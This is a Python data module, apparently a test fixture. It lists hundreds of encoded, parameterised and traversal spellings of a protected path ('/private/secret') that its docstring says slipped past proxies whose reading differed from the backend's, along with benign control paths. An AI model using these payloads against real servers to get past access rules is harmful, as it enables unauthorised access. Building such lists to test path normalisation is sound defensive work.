"""Ways to write the path of /private/secret, by which proxies were passed that judged one spelling while the server behind read another.

Each is a request target as it stands in the request line.
"""

from itertools import product

SECRET_PATH = "/private/secret"
HOST = "paths.shop.svc.cluster.local"

_DOTS = (
    "..", "%2e%2e", "%2E%2e", ".%2e", "%2e.", "%252e%252e", "%25252e%25252e", "%%32%65%%32%65", "%u002e%u002e", "%c0%ae%c0%ae",
    "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae", "%ef%bc%8e%ef%bc%8e", "..;", "..;x=y", "%2e%2e;", "..%3b", "..%00", "..%0d%0a",
    "..%20", "...", "..%01", ".%00.",
)
_SLASHES = (
    "/", "//", "/./", "/;/", "%2f", "%2F", "\\", "%5c", "%252f", "%255c", "%%32%66", "%u2215", "%u005c", "%c0%af", "%e0%80%af", "%c1%9c",
    "%ef%bc%8f", "/%2e/",
)
# Up from where everybody may be, and down again.
_UP = tuple(f"/public{slash}{dots}{slash}private{slash}secret" for dots, slash in product(_DOTS, _SLASHES))
_UP_ONCE = tuple(f"/public/{dots}{slash}private/secret" for dots, slash in product(_DOTS, _SLASHES))
_BETWEEN = tuple(f"/private{slash}secret" for slash in _SLASHES[1:]) + tuple(f"{slash}private/secret" for slash in _SLASHES[1:])

# Parameters, which Tomcat takes off each segment before it looks for the rule, the file, and the parent.
_PARAMETERS = (
    "/;/private/secret", "/;x=y/private/secret", "/;/;/private/secret", "/private;/secret", "/private;x=y/secret", "/private;x=y;z/secret",
    "/private;jsessionid=0123/secret", "/private/;/secret", "/private/;x/secret", "/private/.;/secret", "/private/.;x=y/secret",
    "/private/secret;", "/private/secret;x", "/private/secret;jsessionid=0123", "/private/secret;/", "/.;/private/secret",
    "/..;/private/secret", "/public/..;/private/secret", "/public/..;x=y/private/secret", "/public;/../private/secret",
    "/public;x/..;y/private/secret", "/public/;/../private/secret", "/public/;/..;/..;/private/secret", "/private/..;/private/secret",
    "/private;%2fpublic/secret", "/private;a/../b/secret", "/private;/../private/secret", "/;%2e/private/secret", "//;//private//;//secret",
    "/public/%2e%2e;/private/secret", "/public/.%2e;x/private/secret", "/private%3b/secret", "/private%3bx=y/secret", "/%3b/private/secret",
    "/private/secret%3b", "/public/..%3b/private/secret", "/;foo%2fbar/private/secret", "/;..;/private/secret", "/%3bx/..;/private/secret",
)

_OTHERS = (
    # as it is, and with letters escaped
    "/private/secret", "/private/secret?x=y", "/private/secret?", "/%70rivate/secret", "/p%72ivate/secret", "/private/%73ecret",
    "/%50rivate/secret", "/%2570rivate/secret", "/%%37%30rivate/secret", "/%u0070rivate/secret", "/%c1%b0rivate/secret",
    "/pr%69vate/secre%74", "/%ff/../private/secret", "/private%c0%80/secret",
    # case
    "/PRIVATE/secret", "/Private/Secret", "/pRIVATE/secret", "/%50RIVATE/secret", "/private/SECRET", "/pr\xc4\xb1vate/secret",
    # what stands behind it
    "/private", "/private/", "/private//", "/private/secret/", "/private/secret/.", "/private/secret/./", "/private/secret.",
    "/private./secret", "/private/secret%20", "/private%20/secret", "/%20/private/secret", "/private/secret%09", "/private/secret%00",
    "/private/secret%00.html", "/private/secret%0a", "/private/secret%23", "/private/secret#", "/private/secret#/public",
    "/public#/../private/secret",
    "/private/secret%3f", "/private%3f/secret", "/private/secret%3fx=y", "/public%3f/../private/secret", "/public?/../private/secret",
    "/?/../private/secret", "/private/secret::$DATA", "/private/secret~1", "/private/secret.bak", "/private/secret%2e",
    "/private/secret%ff",
    # before it
    "//private/secret", "///private/secret", "/./private/secret", "/././private/secret", "/../private/secret", "/public/../private/secret",
    "/public//../private/secret", "/public/./../private/secret", "/public/x/../../private/secret", "/private/../private/secret",
    "/private/./secret", "/private/x/../secret", "\\private\\secret", "/\\private/secret", "/public\\..\\private\\secret", "private/secret",
    "./private/secret", "../private/secret", "?/private/secret", "*", "*/private/secret", "",
    # another form of the target
    f"http://{HOST}/private/secret", f"HTTP://{HOST}/private/secret", f"http://{HOST}//private/secret", f"http://{HOST}/public/../private/secret",
    f"http://{HOST}/;/private/secret", f"http://{HOST}", f"http://{HOST}?/private/secret", f"http://{HOST};/private/secret",
    "http:///private/secret", "http:/private/secret", "http:private/secret", "http://elsewhere.example/private/secret",
    f"https://{HOST}/private/secret", f"//{HOST}/private/secret", f"http://x@{HOST}/private/secret", f"http://{HOST}:80/private/secret",
    f"ftp://{HOST}/private/secret", f"http://{HOST}\\private\\secret", f"http://{HOST}/%2e%2e/private/secret",
    # length
    "/" + "public/../" * 700 + "private/secret", "/" + "./" * 3000 + "private/secret", "/public/" + "x" * 9000 + "/../../private/secret",
)

# What everybody may have, in unusual spellings that stay as they are, or in the one way that all agree on.
HARMLESS = (
    "/public/page", "/public/page?a=1&b=/private/secret", "/public/page?x=/../private/secret", "/p%75blic/p%61ge", "/public/caf%C3%A9",
    "/public/a%20b", "/public/a%3Db", "/public/x%40y", "/public/a+b", "/public/,!$&'()*:@", "/public/..a", "/public/...", "/public/.page",
    "/public/%E2%82%AC", "/public/page.", "/public/~x", "/public/%7ex", "/privat/secret", "/privatex/secret", "/public/private/secret",
)

SPELLINGS = tuple(dict.fromkeys((*_UP, *_UP_ONCE, *_BETWEEN, *_PARAMETERS, *_OTHERS)))
